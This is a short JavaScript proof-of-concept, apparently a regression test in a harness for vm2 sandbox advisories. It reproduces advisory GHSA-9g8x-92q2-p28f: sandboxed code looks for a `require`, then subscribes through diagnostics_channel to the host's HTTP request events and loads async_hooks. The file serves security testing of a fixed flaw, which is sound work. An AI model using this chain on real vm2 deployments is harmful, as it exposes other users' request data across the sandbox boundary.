// Source: vm2 advisory GHSA-9g8x-92q2-p28f (test/ghsa/GHSA-9g8x-92q2-p28f/ in vm2's repository; fixed after vm2 3.11.2, by 3.12.2): process-wide observability builtins (diagnostics_channel, async_hooks, perf_hooks, trace_events) exposed every request of the host.
// The chain below follows the advisory's repro.js, or vm2's lib/ comment for it where the repro was not read.
// NodeVM only: the advisory needs NodeVM's `require`. A scenario runs in a plain vm2 VM with no
// `require`, `module` or `process`, so the PoC first looks for every way to a `require` the public
// PoCs use (`__wr.eachRequire`), then runs the advisory's chain with whatever it found.
// Tried: diagnostics_channel subscriptions to the host's HTTP traffic.
const out = {};
await __wr.eachRequire(out, async (req, label) => {
  try {
    const dc = req('diagnostics_channel'); dc.subscribe('http.server.request.start', (m) => __wr.use(m, 'observed host request')); __wr.use(req('async_hooks'), 'async_hooks');
  } catch (e) { out[label + 'Chain'] = String(e && e.message).slice(0, 60); }
});
return out;
